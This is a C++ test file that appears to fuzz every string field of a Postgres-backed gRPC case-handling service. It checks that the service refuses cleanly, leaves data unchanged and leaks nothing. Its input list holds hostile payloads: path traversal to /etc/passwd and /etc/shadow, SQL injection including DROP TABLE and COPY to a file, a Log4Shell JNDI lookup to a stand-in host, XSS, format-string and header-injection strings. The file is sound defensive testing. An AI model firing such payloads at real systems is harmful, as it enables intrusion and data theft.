// SPDX-License-Identifier: Apache-2.0
// Every string of every request of the contract, filled with what does not
// belong there: a clear answer, nothing given away, nothing half done.

#include <gmock/gmock.h>
#include <gtest/gtest.h>
#include <libpq-fe.h>

#include <iostream>
#include <map>
#include <memory>

#include "absl/strings/str_cat.h"
#include "tests/support/temp_postgres.h"
#include "tests/walls/wall_house.h"

namespace gongkai {
namespace {

using test::Answer;
using test::CallMethod;
using test::TempPostgres;
using test::TestService;
using testing::HasSubstr;
using testing::Not;

// What strangers send. Some of it is a lawful text of an application, for a
// text may say anything.
const std::vector<std::string>& Strange() {
  static const auto& all = *new std::vector<std::string>{
      "../../../../etc/passwd",
      "agencies/SHGXW/cases/../../BJGXW/cases/BJGXW-2024-00001",
      "agencies/SHGXW/cases/SHGXW-2024-00001/",
      "file:///etc/shadow",
      "..\\..\\windows\\system32",
      "'; DROP TABLE event; --",
      "x' OR '1'='1",
      "1); SELECT pg_sleep(5); --",
      "$$; COPY event TO '/tmp/x'; $$",
      "%s%s%s%n%n%x",
      "${jndi:ldap://192.0.2.1/a}",
      "<script>alert(1)</script>",
      std::string("a\0b", 3),
      std::string(1, '\0'),
      "line\r\nSet-Cookie: a=b",
      "bell\a and \x1b[31mred",
      "\x7f",
      "赵\xe2\x80\xae甲",
      "\xff\xfe\xfa",
      "\xc0\xaf",
      "\xed\xa0\x80",
      std::string(300'000, 'A'),
      "*",
      " ",
      "-1",
      "9999-99-99",
      "CN"};
  return all;
}

// Passwords are hashed at the lowest cost.
TestService::Options Quick() {
  TestService::Options options;
  options.config.sign_in.cost.ops = 1;
  options.config.sign_in.cost.mib = 8;
  return options;
}

class Strings : public ::testing::Test {
 protected:
  // One connection for thousands of questions.
  std::string Ask(const std::string& sql) {
    if (owner_ == nullptr) {
      owner_.reset(PQconnectdb(
          TempPostgres::Shared().Superuser(service_.database()).c_str()));
    }
    const std::unique_ptr<PGresult, decltype(&PQclear)> result(
        PQexec(owner_.get(), sql.c_str()), &PQclear);
    EXPECT_EQ(PQntuples(result.get()), 1) << PQerrorMessage(owner_.get());
    return PQntuples(result.get()) == 1 ? PQgetvalue(result.get(), 0, 0) : "";
  }
  // All that a refused call must leave as it was.
  std::string Kept() {
    return Ask(
        "SELECT concat_ws(' ', (SELECT count(*) FROM event), (SELECT "
        "sum(version) FROM stream), (SELECT count(*) FROM request), "
        "(SELECT coalesce(sum(last), 0) FROM counter), (SELECT count(*) "
        "FROM account), (SELECT count(*) FROM session), (SELECT "
        "count(*) FROM credential))");
  }

  // A request of the method whose `place`-th string is `text`; empty when it
  // has no so many.
  static std::string With(const auth::MethodRow& row, int act, int place,
                          const std::string& text, bool& there) {
    const auto request = test::RequestOf(row);
    int seen = 0;
    const auto put = [&](const v1::FieldRule& rule) {
      if (seen++ != place) return test::FittingText(rule);
      there = true;
      return text;
    };
    const auto all = [](const v1::FieldRule& rule) {
      return rule.format() != v1::PAGE_TOKEN;
    };
    if (act >= 0) {
      auto& whole = static_cast<v1::PerformActRequest&>(*request);
      v1::FieldRule rule;
      rule.set_format(v1::CASE_NAME);
      whole.set_name(put(rule));
      rule.set_format(v1::UUID);
      whole.set_request_id(put(rule));
      rule.set_format(v1::DATE);
      whole.set_occurred_date(put(rule));
      v1::Act& content = *whole.mutable_act();
      test::Fill(*content.GetReflection()->MutableMessage(
                     &content, v1::Act::descriptor()->field(act)),
                 put, all);
    } else {
      test::Fill(*request, put, all);
    }
    return request->SerializeAsString();
  }

  // Sends every strange text in every place of a request.
  void TryAll(const auth::MethodRow& row, int act) {
    for (int place = 0;; ++place) {
      // Every text comes to many places, and every place hears many texts.
      const int step = act < 0 ? 2 : 4;
      for (size_t i = static_cast<size_t>(place % step); i < Strange().size();
           i += static_cast<size_t>(step)) {
        bool there = false;
        const std::string bytes = With(row, act, place, Strange()[i], there);
        if (!there) return;
        Try(row,
            absl::StrCat(std::string(row.method), " act ", act, " place ",
                         place, " text ", i),
            bytes, Strange()[i]);
        if (HasFatalFailure()) return;
      }
      ++places_;
    }
  }

  void Try(const auth::MethodRow& row, const std::string& where,
           const std::string& bytes, const std::string& text) {
    const std::string before = Kept();
    const Answer answer =
        CallMethod(service_, row, somebody_, bytes, absl::Milliseconds(1500));
    ++calls_;
    const auto code = answer.status.error_code();
    ++codes_[code];
    ASSERT_NE(code, grpc::StatusCode::INTERNAL) << where;
    ASSERT_NE(code, grpc::StatusCode::UNKNOWN) << where;
    ASSERT_NE(code, grpc::StatusCode::UNIMPLEMENTED) << where;
    ASSERT_NE(code, grpc::StatusCode::DATA_LOSS) << where;
    if (answer.status.ok()) return;
    ASSERT_EQ(Kept(), before) << where;
    // A number or a code may be named in a refusal; nothing else is repeated.
    const bool code_like = text.find_first_not_of(
                               "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrst"
                               "uvwxyz0123456789._:/+-") == std::string::npos &&
                           text.size() <= 64;
    if (text.size() < 5 || (code_like && answer.reason() != "FIELD_INVALID")) {
      return;
    }
    ASSERT_THAT(answer.status.error_message(), Not(HasSubstr(text))) << where;
    ASSERT_THAT(answer.status.error_details(), Not(HasSubstr(text))) << where;
    for (const char* inside :
         {"pqxx", "SELECT ", "/work", ".cc:", "postgres"}) {
      ASSERT_THAT(answer.status.error_message(), Not(HasSubstr(inside)))
          << where;
    }
  }

  void SetUp() override {
    for (const std::string& role : test::AllRoles()) {
      absl::StrAppend(&somebody_.roles, ",", role);
    }
    service_.Receive("申请公开。");
  }
  void TearDown() override {
    std::cout << calls_ << " calls over " << places_ << " strings:";
    for (const auto& [code, n] : codes_) {
      std::cout << " code " << code << " " << n << ",";
    }
    std::cout << "\n";
  }

  TestService::As somebody_ = {"wang", "handler"};
  int calls_ = 0;
  int places_ = 0;
  std::map<int, int> codes_;
  TestService service_{Quick()};
  std::unique_ptr<PGconn, decltype(&PQfinish)> owner_{nullptr, &PQfinish};
};

TEST_F(Strings, OfEveryRequestMayBeAnything) {
  for (const auth::MethodRow& row : auth::Methods()) {
    if (row.method == "PerformAct" || row.method == "WatchCases") continue;
    TryAll(row, -1);
    if (HasFatalFailure()) return;
  }
  EXPECT_GT(places_, 80);
  EXPECT_TRUE(service_.Get("agencies/SHGXW/cases/SHGXW-2024-00001").version() >
              0);
}

TEST_F(Strings, OfEveryActMayBeAnything) {
  const auth::MethodRow& row = *auth::MethodOf("PerformAct");
  for (int act = 0; act < v1::Act::descriptor()->field_count(); ++act) {
    TryAll(row, act);
    if (HasFatalFailure()) return;
  }
  EXPECT_GT(places_, 45 * 3);
}

// A stream is opened for nothing that is not a name.
TEST_F(Strings, OfAStreamMayBeAnything) {
  const auth::MethodRow& row = *auth::MethodOf("WatchCases");
  for (const std::string& text : Strange()) {
    for (int place = 0; place < 2; ++place) {
      bool there = false;
      const std::string bytes = With(row, -1, place, text, there);
      ASSERT_TRUE(there);
      const Answer answer =
          CallMethod(service_, row, somebody_, bytes, absl::Milliseconds(300));
      ++calls_;
      ++codes_[answer.status.error_code()];
      EXPECT_EQ(answer.reason(), "FIELD_INVALID")
          << place << " " << text.substr(0, 40);
      EXPECT_TRUE(answer.messages.empty());
    }
  }
}

}  // namespace
}  // namespace gongkai
